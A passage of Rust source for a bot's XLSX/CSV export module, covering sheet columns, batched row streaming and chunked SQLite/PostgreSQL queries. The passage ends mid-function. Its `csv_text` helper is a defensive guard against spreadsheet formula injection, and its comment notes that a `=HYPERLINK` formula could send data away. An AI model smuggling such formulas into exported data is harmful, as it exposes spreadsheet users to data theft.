//! Exports of a subtree over a month, a half-year or a year: XLSX with sheets for reports,
//! incidents, proposals, opinions, activities, completeness and targets, or CSV of one sheet.
//! Column headers are the questions in the reader's language. Units come in tree order, siblings
//! in Vietnamese order of their names ([`crate::collation`]). Rows are streamed from the
//! database into the writer (XLSX worksheets in constant-memory mode), so memory stays bounded
//! however large the province. Used by `chihoi export` and by `/xuat` in chat.

use std::borrow::Cow;
use std::collections::HashMap;
use std::path::Path;
use std::sync::{Arc, Mutex};

#[cfg(test)]
use chrono::NaiveDate;
use chrono::{DateTime, Offset, TimeZone, Utc};
use chrono_tz::Tz;
use futures::TryStreamExt;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet};
use rustc_hash::FxHashMap;
use sqlx::Row as _;
use tokio::sync::mpsc;

use crate::domain::calendar::Calendars;
use crate::domain::period::Period;
use crate::domain::range::PeriodRange;
use crate::domain::report::{Incident, IncidentField, Section, Severity, Situation};
use crate::i18n::Lang;
use crate::labels;
use crate::storage::org::{self, Unit};
use crate::storage::sql;
use crate::storage::{Backend, StorageError, Store, path_range_end, views};
use crate::tr;

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportFormat {
    Csv,
    Xlsx,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Sheet {
    Reports,
    Incidents,
    Proposals,
    Opinions,
    Activities,
    Completeness,
    Targets,
}

impl Sheet {
    pub const ALL: [Sheet; 7] = [
        Sheet::Reports,
        Sheet::Incidents,
        Sheet::Proposals,
        Sheet::Opinions,
        Sheet::Activities,
        Sheet::Completeness,
        Sheet::Targets,
    ];

    pub fn title(self, lang: Lang) -> String {
        match self {
            Sheet::Reports => tr!(lang, "export-sheet-reports"),
            Sheet::Incidents => tr!(lang, "export-sheet-incidents"),
            Sheet::Proposals => tr!(lang, "export-sheet-proposals"),
            Sheet::Opinions => tr!(lang, "export-sheet-opinions"),
            Sheet::Activities => tr!(lang, "export-sheet-activities"),
            Sheet::Completeness => tr!(lang, "export-sheet-completeness"),
            Sheet::Targets => tr!(lang, "export-sheet-targets"),
        }
    }
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error(transparent)]
    Storage(#[from] StorageError),
    #[error("database error")]
    Database(#[from] sqlx::Error),
    #[error("no unit with code {0:?}")]
    UnknownUnit(String),
    #[error("writing CSV failed")]
    Csv(#[from] csv::Error),
    #[error("writing XLSX failed")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
    #[error("writing the file failed")]
    Io(#[from] std::io::Error),
    #[error("the export's writing thread stopped")]
    WriterStopped,
    #[error("an exported row could not be read: {0}")]
    Row(String),
}

/// A table in memory: headers and rows (small exports and tests).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Table {
    pub headers: Vec<String>,
    pub rows: Vec<Vec<String>>,
}

/// One cell of an exported row. XLSX keeps the type (numbers, percentages, dates and times are
/// numbers Excel can sort and sum); CSV and [`Table`] get the text.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    /// Text repeated on many rows (unit paths, labels): shared rather than copied per row.
    Shared(Arc<str>),
    Int(i64),
    /// A percentage, shown with one decimal.
    Pct(f64),
    /// A local date and time, as seconds since 1970-01-01 00:00 local time.
    Time(i64),
    /// A date as stored (`YYYY-MM-DD`).
    Date(String),
    Empty,
}

impl Cell {
    fn opt(text: Option<String>) -> Self {
        text.map_or(Cell::Empty, Cell::Text)
    }

    /// The cell as text, as CSV and in-memory tables show it.
    pub fn text(&self) -> Cow<'_, str> {
        match self {
            Cell::Text(s) | Cell::Date(s) => Cow::Borrowed(s),
            Cell::Shared(s) => Cow::Borrowed(s),
            Cell::Int(n) => Cow::Owned(n.to_string()),
            Cell::Pct(p) => Cow::Owned(format!("{p:.1}")),
            Cell::Time(local) => Cow::Owned(
                DateTime::from_timestamp(*local, 0)
                    .map(|t| t.naive_utc().format("%Y-%m-%d %H:%M").to_string())
                    .unwrap_or_default(),
            ),
            Cell::Empty => Cow::Borrowed(""),
        }
    }
}

/// How a column is shown in XLSX.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Text,
    Number,
    Pct,
    Time,
    Date,
}

/// Where the rows of a sheet go. Sinks run on a blocking thread, fed in batches.
pub(crate) trait RowSink: Send + 'static {
    fn row(&mut self, cells: &[Cell]) -> Result<(), ExportError>;
}

impl RowSink for Vec<Vec<String>> {
    fn row(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
        self.push(cells.iter().map(|c| c.text().into_owned()).collect());
        Ok(())
    }
}

struct CsvSink<W: std::io::Write>(csv::Writer<W>);

impl<W: std::io::Write + Send + 'static> RowSink for CsvSink<W> {
    fn row(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
        for cell in cells {
            self.0.write_field(csv_text(cell).as_bytes())?;
        }
        self.0.write_record(None::<&[u8]>)?;
        Ok(())
    }
}

/// A cell as CSV text. Text people typed that begins like a formula (`=`, `+`, `-`, `@`, a
/// tab or a carriage return) gets a leading apostrophe, so that a spreadsheet opening the file
/// shows it instead of running it (`=HYPERLINK(…)` in a note could send data away). Numbers
/// are not text: a count of -3 stays -3. XLSX cells are typed and need no such care.
fn csv_text(cell: &Cell) -> Cow<'_, str> {
    let text = cell.text();
    let typed = matches!(cell, Cell::Text(_) | Cell::Shared(_));
    if typed && text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        text
    }
}

/// Excel allows 1,048,576 rows a sheet; a larger sheet continues on "Name (2)", "Name (3)"…
const XLSX_MAX_ROWS: u32 = 1_048_575;

/// Deflate level of the XLSX zip container by the number of rows: the library's default (6)
/// for everyday exports, the fastest (1) past [`LARGE_EXPORT_ROWS`]. A province-year is about a
/// gigabyte of XML; level 6 spent longer compressing it than writing it, and level 1 takes
/// about 3.5 s for a file 1.7 times as large (docs/BENCHMARKS.md).
fn zip_level(rows: usize) -> u8 {
    if rows > LARGE_EXPORT_ROWS { 1 } else { 6 }
}

const LARGE_EXPORT_ROWS: usize = 250_000;

/// Column formats, registered once per workbook.
struct Formats {
    bold: Format,
    wrap: Format,
    pct: Format,
    time: Format,
    date: Format,
}

impl Formats {
    fn new() -> Self {
        Self {
            bold: Format::new().set_bold().set_text_wrap(),
            wrap: Format::new().set_text_wrap(),
            pct: Format::new().set_num_format("0.0"),
            time: Format::new().set_num_format("yyyy-mm-dd hh:mm"),
            date: Format::new().set_num_format("yyyy-mm-dd"),
        }
    }
}

/// A sheet in constant-memory mode, written row by row on its own thread; the workbook is
/// shared only to create worksheets (a sheet past Excel's row limit continues on a new one).
struct XlsxSink {
    book: Arc<Mutex<Workbook>>,
    title: String,
    columns: Vec<(String, Kind)>,
    formats: Formats,
    sheets: Vec<Worksheet>,
    row: u32,
}

impl XlsxSink {
    fn new(
        book: Arc<Mutex<Workbook>>,
        title: String,
        columns: Vec<(String, Kind)>,
    ) -> Result<Self, ExportError> {
        let mut sink = Self {
            book,
            title,
            columns,
            formats: Formats::new(),
            sheets: Vec::new(),
            row: 0,
        };
        sink.start_sheet()?;
        Ok(sink)
    }

    fn start_sheet(&mut self) -> Result<(), ExportError> {
        let part = self.sheets.len() + 1;
        let name = if part == 1 {
            self.title.clone()
        } else {
            format!("{} ({part})", self.title)
        };
        let mut sheet = self
            .book
            .lock()
            .map_err(|_| ExportError::WriterStopped)?
            .new_worksheet_with_constant_memory()?;
        sheet.set_name(&name)?;
        let f = &self.formats;
        for (c, (h, kind)) in self.columns.iter().enumerate() {
            let c = c as u16;
            let wide = h.chars().count() > 14 && *kind == Kind::Text;
            sheet.set_column_width(c, if wide { 28 } else { 16 })?;
            // One format per column rather than per cell: formats are looked up by hash on
            // every write that carries one, which dominated large exports.
            let format = match kind {
                Kind::Text => Some(&f.wrap),
                Kind::Number => None,
                Kind::Pct => Some(&f.pct),
                Kind::Time => Some(&f.time),
                Kind::Date => Some(&f.date),
            };
            if let Some(format) = format {
                sheet.set_column_format(c, format)?;
            }
            sheet.write_string_with_format(0, c, h, &f.bold)?;
        }
        sheet.set_freeze_panes(1, 0)?;
        self.sheets.push(sheet);
        self.row = 0;
        Ok(())
    }

    fn finish(self) -> Vec<Worksheet> {
        self.sheets
    }
}

impl RowSink for XlsxSink {
    fn row(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
        if self.row >= XLSX_MAX_ROWS {
            self.start_sheet()?;
        }
        self.row += 1;
        let row = self.row;
        let sheet = self.sheets.last_mut().ok_or(ExportError::WriterStopped)?;
        for (c, cell) in cells.iter().enumerate() {
            let c = c as u16;
            match cell {
                Cell::Text(s) => sheet.write_string(row, c, s)?,
                Cell::Shared(s) => sheet.write_string(row, c, &**s)?,
                Cell::Int(n) => sheet.write_number(row, c, *n as f64)?,
                Cell::Pct(p) => sheet.write_number(row, c, *p)?,
                Cell::Time(local) => match ExcelDateTime::from_timestamp(*local) {
                    Ok(t) => sheet.write_number(row, c, t.to_excel())?,
                    Err(_) => sheet.write_string(row, c, cell.text())?,
                },
                Cell::Date(s) => match ExcelDateTime::parse_from_str(s) {
                    Ok(d) => sheet.write_number(row, c, d.to_excel())?,
                    Err(_) => sheet.write_string(row, c, s)?,
                },
                Cell::Empty => sheet,
            };
        }
        Ok(())
    }
}

/// Rows travel from the database side to the writing thread in batches of this many.
const BATCH: usize = 256;

/// The database side of a sheet: rows leave in batches for the thread that writes them, so
/// that reading from the database and writing the file run in parallel.
struct Rows {
    batch: Vec<Vec<Cell>>,
    tx: mpsc::Sender<Vec<Vec<Cell>>>,
}

impl Rows {
    async fn push(&mut self, row: Vec<Cell>) -> Result<(), ExportError> {
        self.batch.push(row);
        if self.batch.len() >= BATCH {
            self.send().await?;
        }
        Ok(())
    }

    async fn send(&mut self) -> Result<(), ExportError> {
        if self.batch.is_empty() {
            return Ok(());
        }
        let batch = std::mem::replace(&mut self.batch, Vec::with_capacity(BATCH));
        self.tx
            .send(batch)
            .await
            .map_err(|_| ExportError::WriterStopped)
    }
}

/// Reads `sheet` from the database and feeds it to `sink` on a blocking thread. Returns the
/// sink and the number of rows (of reports, for the reports sheet).
async fn pump<S: RowSink>(
    scope: &Scope,
    names: &Names,
    sheet: Sheet,
    mut sink: S,
) -> Result<(S, usize), ExportError> {
    let (tx, mut rx) = mpsc::channel::<Vec<Vec<Cell>>>(4);
    let writer = tokio::task::spawn_blocking(move || {
        while let Some(batch) = rx.blocking_recv() {
            for row in &batch {
                sink.row(row)?;
            }
        }
        Ok::<_, ExportError>(sink)
    });
    let mut rows = Rows {
        batch: Vec::with_capacity(BATCH),
        tx,
    };
    let read = match write_sheet(scope, names, sheet, &mut rows).await {
        Ok(n) => rows.send().await.map(|()| n),
        Err(e) => Err(e),
    };
    // Closing the channel lets the writer finish.
    drop(rows);
    let written = writer.await.map_err(|_| ExportError::WriterStopped)?;
    match (read, written) {
        (Ok(n), Ok(sink)) => Ok((sink, n)),
        // The writer's own error explains why the reader found it gone.
        (_, Err(e)) | (Err(e), Ok(_)) => Err(e),
    }
}

/// What to export: the subtree of `root` (every top unit when `None`) over `range`.
#[derive(Clone)]
pub struct Scope {
    pub store: Store,
    pub calendars: Calendars,
    pub roots: Vec<Unit>,
    pub range: PeriodRange,
    pub lang: Lang,
    pub now: DateTime<Utc>,
    /// Sheets read side by side, each on a database connection of its own.
    sheets_at_once: usize,
    /// Units whose rows of one month are read with one statement, where not the backend's
    /// own choice ([`month_by_month`]).
    chunk_units: Option<usize>,
}

impl Scope {
    pub async fn new(
        store: &Store,
        calendars: &Calendars,
        unit_code: Option<&str>,
        range: PeriodRange,
        lang: Lang,
        now: DateTime<Utc>,
    ) -> Result<Self, ExportError> {
        let mut conn = store.acquire().await?;
        let roots = match unit_code {
            Some(code) => vec![
                org::unit_by_code(&mut conn, code)
                    .await?
                    .ok_or_else(|| ExportError::UnknownUnit(code.to_owned()))?,
            ],
            None => org::children(&mut conn, None).await?,
        };
        Ok(Self {
            store: store.clone(),
            calendars: calendars.clone(),
            roots,
            range,
            lang,
            now,
            sheets_at_once: match store.backend() {
                Backend::Sqlite => SQLITE_SHEETS_AT_ONCE,
                Backend::Postgres => SHEETS_AT_ONCE,
            },
            chunk_units: None,
        })
    }

    /// Reads `units` units' rows with each statement (at least one) instead of a chunk of
    /// [`CHUNK_UNITS`] on SQLite or the whole subtree on PostgreSQL: for tests, where the
    /// sample province is smaller than a chunk.
    #[doc(hidden)]
    pub fn in_chunks_of(mut self, units: usize) -> Self {
        self.chunk_units = Some(units.max(1));
        self
    }

    /// Reads one sheet at a time: slower, but it holds a single database connection, leaving
    /// the rest of the pool to the people the bot is answering meanwhile.
    pub fn one_sheet_at_a_time(mut self) -> Self {
        self.sheets_at_once = 1;
        self
    }

    fn tz(&self) -> Tz {
        self.calendars.tz
    }

    fn time(&self, ts: i64) -> Cell {
        local_time(self.tz(), ts)
    }

    fn month_list(&self) -> Vec<String> {
        self.range
            .months()
            .into_iter()
            .map(|p| p.to_string())
            .collect()
    }
}

/// A stored instant (Unix seconds) as a local date and time cell in `tz`.
fn local_time(tz: Tz, ts: i64) -> Cell {
    match DateTime::from_timestamp(ts, 0) {
        Some(t) => {
            let offset = tz.offset_from_utc_datetime(&t.naive_utc()).fix();
            Cell::Time(ts + i64::from(offset.local_minus_utc()))
        }
        None => Cell::Empty,
    }
}

/// The code, the path of names (`Tỉnh … › Huyện … › Xã … › Chi hội …`) and the place in the
/// sheets of every unit under the scope's roots, read once per export and shared by every row
/// that names the unit.
struct Names {
    /// Looked up two or three times for each of millions of rows: hashed with Fx, not SipHash
    /// (hashing was 3% of a PostgreSQL export's CPU, docs/BENCHMARKS.md §7); the keys are our
    /// own ids, never chosen by a user.
    units: FxHashMap<i64, Named>,
    /// The units of each root's subtree, the root included, in the order the sheets list them.
    ordered: HashMap<i64, Vec<i64>>,
}

struct Named {
    code: Arc<str>,
    path: Arc<str>,
    /// Position in tree order with siblings in Vietnamese order of names ([`org::tree_order`]):
    /// the order the sheets list units in.
    rank: usize,
}

impl Names {
    async fn load(scope: &Scope) -> Result<Self, ExportError> {
        let mut conn = scope.store.acquire().await?;
        let mut map: FxHashMap<i64, Named> = FxHashMap::default();
        let mut ordered = HashMap::new();
        for root in &scope.roots {
            let above = org::lineage(&mut conn, root).await?;
            let prefix = above
                .iter()
                .filter(|u| u.id != root.id)
                .map(|u| u.name.as_str())
                .collect::<Vec<_>>()
                .join(" › ");
            // In path order a parent comes before its children.
            let select = "SELECT id, code, name, path FROM units WHERE path >= $1 AND path < $2 ORDER BY path";
            let end = path_range_end(&root.path);
            // Streamed into the tuples through sqlx's own connection: collected whole first,
            // a province's units as rows took about 70 MiB, the export's peak
            // (docs/BENCHMARKS.md §7).
            let mut raw = scope.store.pool().acquire().await?;
            let rows: Vec<(i64, String, String, String)> = sqlx::query_as(select)
                .persistent(false)
                .bind(&root.path)
                .bind(&end)
                .fetch(&mut *raw)
                .try_collect()
                .await?;
            drop(raw);
            // Roots follow one another (they are in Vietnamese order already).
            let offset = map.len();
            let order =
                org::tree_order(rows.iter().map(|(id, code, name, path)| {
                    (*id, path.as_str(), name.as_str(), code.as_str())
                }));
            let mut ids: Vec<(usize, i64)> = order.iter().map(|(id, o)| (*o, *id)).collect();
            ids.sort_unstable();
            ordered.insert(root.id, ids.into_iter().map(|(_, id)| id).collect());
            for (id, code, name, path) in rows {
                let parent = path
                    .trim_end_matches('/')
                    .rsplit('/')
                    .nth(1)
                    .and_then(|p| p.parse::<i64>().ok())
                    .and_then(|p| map.get(&p));
                let full: Arc<str> = match parent {
                    Some(parent) if id != root.id => format!("{} › {name}", parent.path).into(),
                    _ if prefix.is_empty() => name.into(),
                    _ => format!("{prefix} › {name}").into(),
                };
                let rank = order.get(&id).map_or(usize::MAX, |o| offset + o);
                map.insert(
                    id,
                    Named {
                        code: code.into(),
                        path: full,
                        rank,
                    },
                );
            }
        }
        Ok(Self {
            units: map,
            ordered,
        })
    }

    fn code(&self, unit_id: i64) -> Cell {
        self.units
            .get(&unit_id)
            .map_or(Cell::Empty, |n| Cell::Shared(n.code.clone()))
    }

    fn path(&self, unit_id: i64) -> Cell {
        self.units
            .get(&unit_id)
            .map_or(Cell::Empty, |n| Cell::Shared(n.path.clone()))
    }

    /// Where the unit's rows go among the others' (units not under the scope last).
    fn rank(&self, unit_id: i64) -> usize {
        self.units.get(&unit_id).map_or(usize::MAX, |n| n.rank)
    }

    /// The units of `root`'s subtree in the order the sheets list them.
    fn ordered(&self, root: &Unit) -> &[i64] {
        self.ordered.get(&root.id).map_or(&[], Vec::as_slice)
    }
}

/// The select list `exprs` as one JSON array per row.
///
/// The large sheets read their rows this way: each value read costs a conversion to a
/// backend-neutral one (sqlx's SQLite driver took about a microsecond per value, and a
/// province-year of reports 18 s as 15 columns against 5 s as one JSON text per row, parsing
/// included; docs/BENCHMARKS.md), so a row is one value.
fn json_row(store: &Store, exprs: &str) -> String {
    match store.backend() {
        Backend::Sqlite => format!("json_array({exprs})"),
        Backend::Postgres => format!("json_build_array({exprs})::text"),
    }
}

/// A monthly report as the reports sheet reads it (a JSON array, in this order).
#[derive(serde::Deserialize)]
struct ReportRow {
    unit: i64,
    author: String,
    submitted_at: i64,
    updated_at: i64,
    revision: i64,
    labour: String,
    labour_note: Option<String>,
    living: String,
    living_note: Option<String>,
    thoughts: String,
    thoughts_note: Option<String>,
    proposals: Option<String>,
    /// Field, severity, people (the top, and the bottom of a chosen range) and description of
    /// each incident, in order ([`report_incidents`]).
    incidents: Option<Vec<(String, String, i64, Option<i64>, String)>>,
}

/// The report `r`'s incidents as one JSON array in its row, and what the reports sheet's tables
/// join for it; rather than the scope's incidents read beforehand and held for the whole sheet.
///
/// SQLite looks each report's incidents up in their index. PostgreSQL gathers the month's (`$2`)
/// incidents by report once and joins them by hash: a lookup per report, as a subquery, cost
/// more than the rest of the month's statement (EXPLAIN ANALYZE: 975 ms against 427 ms a
/// month of the bench's province, docs/BENCHMARKS.md §7).
fn report_incidents(store: &Store) -> (&'static str, &'static str) {
    match store.backend() {
        // `json()`: a subquery's result is text to `json_array`, which would quote it.
        Backend::Sqlite => (
            "json((SELECT json_group_array(json_array(i.field, i.severity, i.people, i.people_from, i.description) ORDER BY i.position)
                   FROM incidents i WHERE i.report_id = r.id))",
            "",
        ),
        Backend::Postgres => (
            "ri.incidents",
            " LEFT JOIN (SELECT i.report_id,
                           json_agg(json_build_array(i.field, i.severity, i.people, i.people_from, i.description) ORDER BY i.position) AS incidents
                         FROM incidents i JOIN reports mr ON mr.id = i.report_id
                         WHERE mr.period = $2 GROUP BY i.report_id) ri ON ri.report_id = r.id",
        ),
    }
}

/// The activity `a`'s number of photos, and what the activities sheet's tables join for it.
///
/// As with [`report_incidents`]: SQLite counts each activity's photos in their index;
/// PostgreSQL counts the month's (`$2`) photos by activity once and joins them by hash rather
/// than running a subquery for each of a province's 100,000 activities a month.
fn activity_photos(store: &Store) -> (&'static str, &'static str) {
    match store.backend() {
        Backend::Sqlite => (
            "(SELECT COUNT(*) FROM activity_photos p WHERE p.activity_id = a.id)",
            "",
        ),
        Backend::Postgres => (
            "COALESCE(ap.photos, 0)",
            " LEFT JOIN (SELECT p.activity_id, COUNT(*) AS photos
                         FROM activity_photos p JOIN activities ma ON ma.id = p.activity_id
                         WHERE ma.period = $2 GROUP BY p.activity_id) ap ON ap.activity_id = a.id",
        ),
    }
}

/// Decodes a row selected with [`json_row`].
fn from_json<T: serde::de::DeserializeOwned>(row: &sqlx::any::AnyRow) -> Result<T, ExportError> {
    let text: &str = row.try_get(0)?;
    serde_json::from_str(text).map_err(|e| ExportError::Row(e.to_string()))
}

/// The column headers of a sheet in the reader's language (CSV and tables).
fn headers(lang: Lang, sheet: Sheet) -> Vec<String> {
    columns(lang, sheet).into_iter().map(|(h, _)| h).collect()
}

fn columns(lang: Lang, sheet: Sheet) -> Vec<(String, Kind)> {
    use Kind::*;
    // Every sheet starts with the unit: its code, then its path of names.
    let mut columns = vec![
        (tr!(lang, "export-unit-code"), Text),
        (tr!(lang, "export-unit-path"), Text),
    ];
    columns.extend(match sheet {
        Sheet::Reports => vec![
            (tr!(lang, "export-period"), Text),
            (tr!(lang, "export-author"), Text),
            (tr!(lang, "export-submitted-at"), Time),
            (tr!(lang, "export-updated-at"), Time),
            (tr!(lang, "export-revision"), Number),
            (tr!(lang, "export-labour"), Text),
            (tr!(lang, "export-labour-note"), Text),
            (tr!(lang, "export-living"), Text),
            (tr!(lang, "export-living-note"), Text),
            (tr!(lang, "export-thoughts"), Text),
            (tr!(lang, "export-thoughts-note"), Text),
            (tr!(lang, "export-incident-count"), Number),
            (tr!(lang, "export-incidents"), Text),
            (tr!(lang, "export-proposals"), Text),
        ],
        Sheet::Incidents => vec![
            (tr!(lang, "export-period"), Text),
            (tr!(lang, "export-source"), Text),
            (tr!(lang, "export-field"), Text),
            (tr!(lang, "export-severity"), Text),
            (tr!(lang, "export-people"), Number),
            (tr!(lang, "export-description"), Text),
            (tr!(lang, "export-status"), Text),
        ],
        Sheet::Proposals => vec![
            (tr!(lang, "export-period"), Text),
            (tr!(lang, "export-author"), Text),
            (tr!(lang, "export-proposals"), Text),
        ],
        Sheet::Opinions => vec![
            (tr!(lang, "export-period"), Text),
            (tr!(lang, "export-sent-at"), Time),
            (tr!(lang, "export-author"), Text),
            (tr!(lang, "export-opinion"), Text),
        ],
        Sheet::Activities => vec![
            (tr!(lang, "export-date"), Date),
            (tr!(lang, "export-activity-type"), Text),
            (tr!(lang, "export-amount"), Number),
            (tr!(lang, "export-measure"), Text),
            (tr!(lang, "export-description"), Text),
            (tr!(lang, "export-photos"), Number),
        ],
        Sheet::Completeness => vec![
            (tr!(lang, "export-period"), Text),
            (tr!(lang, "export-expected"), Number),
            (tr!(lang, "export-on-time"), Number),
            (tr!(lang, "export-late"), Number),
            (tr!(lang, "export-missing"), Number),
            (tr!(lang, "export-on-time-rate"), Pct),
        ],
        Sheet::Targets => vec![
            (tr!(lang, "export-target-number"), Number),
            (tr!(lang, "export-target"), Text),
            (tr!(lang, "export-target-level"), Text),
            (tr!(lang, "export-goal"), Number),
            (tr!(lang, "export-achieved"), Number),
            (tr!(lang, "export-total"), Number),
            (tr!(lang, "export-progress"), Pct),
        ],
    });
    columns
}

/// An urgent report as the incidents sheet reads it: unit, time, field, severity, people (top
/// and bottom), description, status.
type UrgentRow = (i64, i64, String, String, i64, Option<i64>, String, String);

/// An incident's people: the number she typed, or the range she chose as she chose it
/// ("21–50"), never its top alone as if she had counted.
fn people_cell(people: i64, from: Option<i64>) -> Cell {
    match from {
        Some(from) if from < people => Cell::Text(format!("{from}–{people}")),
        _ => Cell::Int(people),
    }
}

fn incident_text(
    lang: Lang,
    field: &str,
    severity: &str,
    people: i64,
    people_from: Option<i64>,
    description: String,
) -> Option<String> {
    Some(labels::incident(
        lang,
        &Incident {
            field: IncidentField::parse(field)?,
            severity: Severity::parse(severity)?,
            people: u32::try_from(people).ok()?,
            people_from: people_from.and_then(|p| u32::try_from(p).ok()),
            description,
        },
    ))
}

/// The situation labels of every section, looked up once per export rather than per row.
struct SituationLabels(Vec<(Section, &'static str, Arc<str>)>);

impl SituationLabels {
    fn new(lang: Lang) -> Self {
        let mut all = Vec::new();
        for section in Section::ALL {
            for s in Situation::ALL {
                all.push((
                    section,
                    s.as_str(),
                    labels::situation(lang, section, s).into(),
                ));
            }
        }
        Self(all)
    }

    fn get(&self, section: Section, stored: &str) -> Cell {
        self.0
            .iter()
            .find(|(sec, s, _)| *sec == section && *s == stored)
            .map_or(Cell::Empty, |(_, _, label)| Cell::Shared(label.clone()))
    }
}

/// Units whose rows of one month are read with one statement: about as many rows, held while
/// they are put in order, so a sheet holds a few thousand rows at most, whatever the province.
const CHUNK_UNITS: usize = 2_000;

/// A sheet's statement over a chunk of units and a month: the row `exprs` ([`json_row`]) from
/// `tables` where `unit` (a column of theirs) is one of the ids in `$1` (a JSON array, in the
/// sheets' order) and `filter` holds (`$2` the month), a unit's rows in the order `within`.
///
/// PostgreSQL walks the ids in their order (`WITH ORDINALITY`, which it knows is ordered, so
/// there is no sort) and looks each unit's rows up by index: the rows come in the sheets'
/// order, and a province's month is one statement, streamed. SQLite looks the ids up as a set
/// (`IN`), and [`month_by_month`] orders a chunk's rows.
fn over_units(
    store: &Store,
    exprs: &str,
    tables: &str,
    unit: &str,
    filter: &str,
    within: Option<&str>,
) -> String {
    let select = json_row(store, exprs);
    match store.backend() {
        Backend::Sqlite => {
            let order = within.map(|w| format!(" ORDER BY {w}")).unwrap_or_default();
            format!(
                "SELECT {select} FROM {tables} WHERE {unit} IN (SELECT value FROM json_each($1)) AND {filter}{order}"
            )
        }
        Backend::Postgres => {
            let order = within.map(|w| format!(", {w}")).unwrap_or_default();
            format!(
                "SELECT {select} FROM {tables}
                 JOIN unnest($1::bigint[]) WITH ORDINALITY AS k(id, n) ON {unit} = k.id
                 WHERE {filter} ORDER BY k.n{order}"
            )
        }
    }
}

/// Runs `sql` ([`over_units`]: `$1` a JSON array of unit ids, `$2` the month) for each month in
/// turn over `units` (in the sheets' order), and sends the rows `line` makes of the results in
/// their units' order ([`Names::rank`]); rows of one unit keep the order `sql` gives them.
/// `line` returns the row's unit with its cells. Returns the number of rows.
///
/// The units are in tree order with siblings by name, which neither database can sort by. On
/// SQLite they are read a chunk of [`CHUNK_UNITS`] at a time and each chunk's rows put in
/// order here, so only a chunk's rows are ever held, while the writer writes the previous
/// chunk's; PostgreSQL walks the ids in order and streams a whole month (docs/BENCHMARKS.md §7).
async fn month_by_month<T: serde::de::DeserializeOwned>(
    conn: &mut sql::Conn,
    sql: &str,
    scope: &Scope,
    units: &[i64],
    names: &Names,
    out: &mut Rows,
    mut line: impl FnMut(&Cell, T) -> (i64, Vec<Cell>),
) -> Result<usize, ExportError> {
    let mut count = 0;
    let postgres = scope.store.backend() == Backend::Postgres;
    let chunk = scope
        .chunk_units
        .unwrap_or(if postgres { units.len() } else { CHUNK_UNITS })
        .max(1);
    // A chunk's ids as the statement takes them: a JSON array on SQLite, an array literal
    // (`{1,2,3}`) on PostgreSQL, where `unnest` of it lets the planner count them.
    let chunks: Vec<String> = units
        .chunks(chunk)
        .map(|ids| match postgres {
            true => {
                let list: Vec<String> = ids.iter().map(i64::to_string).collect();
                format!("{{{}}}", list.join(","))
            }
            false => serde_json::to_string(ids).unwrap_or_default(),
        })
        .collect();
    // PostgreSQL's rows come in order, as the server finds them (`over_units`), and go to the
    // writer as they come; sqlx's own connection streams them.
    let mut streamed = match postgres {
        true => Some(scope.store.pool().acquire().await?),
        false => None,
    };
    let mut chunk_rows: Vec<(usize, Vec<Cell>)> = Vec::new();
    for month in scope.month_list() {
        let period = Cell::Shared(month.as_str().into());
        for ids in &chunks {
            let mut decode = |json: &str| -> Result<(i64, Vec<Cell>), ExportError> {
                let row =
                    serde_json::from_str(json).map_err(|e| ExportError::Row(e.to_string()))?;
                Ok(line(&period, row))
            };
            match streamed.as_mut() {
                Some(raw) => {
                    // Not kept prepared: planned for these ids, so the planner counts them.
                    let mut rows = sqlx::query(sql)
                        .persistent(false)
                        .bind(ids.as_str())
                        .bind(month.as_str())
                        .fetch(&mut **raw);
                    while let Some(r) = rows.try_next().await? {
                        let (_, cells) = decode(r.try_get(0)?)?;
                        out.push(cells).await?;
                        count += 1;
                    }
                }
                None => {
                    // Kept prepared: the plan does not depend on the units (an index lookup
                    // each), and a chunk is read in a few milliseconds, so it runs in place.
                    let rows: Vec<(String,)> = sql::query_as(sql)
                        .bind(ids)
                        .bind(&month)
                        .fetch_all(conn)
                        .await?;
                    for (json,) in rows {
                        let (unit, cells) = decode(&json)?;
                        chunk_rows.push((names.rank(unit), cells));
                    }
                    // Stable: rows of one unit keep the order `sql` gives them.
                    chunk_rows.sort_by_key(|(rank, _)| *rank);
                    count += chunk_rows.len();
                    for (_, cells) in chunk_rows.drain(..) {
                        out.push(cells).await?;
                    }
                }
            }
        }
    }
    Ok(count)
}

/// Reads one sheet's rows from the database into `out`. Returns the number of rows.
async fn write_sheet(
    scope: &Scope,
    names: &Names,
    sheet: Sheet,
    out: &mut Rows,
) -> Result<usize, ExportError> {
    let lang = scope.lang;
    let months = scope.month_list();
    let mut conn = scope.store.acquire().await?;
    let mut count = 0usize;
    for root in &scope.roots {
        let end = path_range_end(&root.path);
        let units = names.ordered(root);
        match sheet {
            Sheet::Reports => {
                let situations = SituationLabels::new(lang);
                let (incidents, join) = report_incidents(&scope.store);
                let sql = over_units(
                    &scope.store,
                    &format!(
                        "r.unit_id, a.display_name, r.submitted_at, r.updated_at, r.revision, r.labour_level,
                         r.labour_note, r.living_level, r.living_note, r.thoughts_level, r.thoughts_note,
                         r.proposals, {incidents}"
                    ),
                    &format!("reports r JOIN users a ON a.id = r.author_id{join}"),
                    "r.unit_id",
                    "r.period = $2",
                    None,
                );
                count += month_by_month(
                    &mut conn,
                    &sql,
                    scope,
                    units,
                    names,
                    out,
                    |period, row: ReportRow| {
                        let inc: Vec<String> = row
                            .incidents
                            .unwrap_or_default()
                            .into_iter()
                            .enumerate()
                            .map(|(n, (f, s, p, from, d))| {
                                let line =
                                    incident_text(lang, &f, &s, p, from, d).unwrap_or_default();
                                format!("{}. {line}", n + 1)
                            })
                            .collect();
                        let cells = vec![
                            names.code(row.unit),
                            names.path(row.unit),
                            period.clone(),
                            Cell::Text(row.author),
                            scope.time(row.submitted_at),
                            scope.time(row.updated_at),
                            Cell::Int(row.revision),
                            situations.get(Section::Labour, &row.labour),
                            Cell::opt(row.labour_note),
                            situations.get(Section::Living, &row.living),
                            Cell::opt(row.living_note),
                            situations.get(Section::Thoughts, &row.thoughts),
